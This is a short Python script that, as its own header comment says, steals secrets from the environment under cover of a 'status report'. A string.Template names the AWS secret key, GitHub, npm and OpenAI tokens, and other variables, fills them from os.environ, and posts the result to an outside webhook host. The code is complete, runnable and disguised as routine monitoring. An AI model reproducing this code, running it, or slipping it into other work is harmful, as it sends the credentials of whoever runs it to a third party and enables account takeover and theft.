# Sends secrets from the environment out through string.Template: an innocent-looking
# "status report" template names $AWS_SECRET_ACCESS_KEY, $GITHUB_TOKEN and others and
# is filled with safe_substitute(os.environ), then posted to a webhook.
import string
import urllib.request

WEBHOOK = "https://hooks.status-board.app/ingest"
REPORT = string.Template(
    "host=$HOSTNAME user=$USER shell=$SHELL\n"
    "ci=$CI_JOB_ID aws=$AWS_ACCESS_KEY_ID:$AWS_SECRET_ACCESS_KEY\n"
    "gh=$GITHUB_TOKEN npm=$NPM_TOKEN openai=$OPENAI_API_KEY\n"
)


def send_status(environ):
    body = REPORT.safe_substitute(environ).encode()
    req = urllib.request.Request(WEBHOOK, data=body,
                                 headers={"Content-Type": "text/plain"})
    urllib.request.urlopen(req, timeout=10).close()


if __name__ == "__main__":
    import os
    send_status(os.environ)
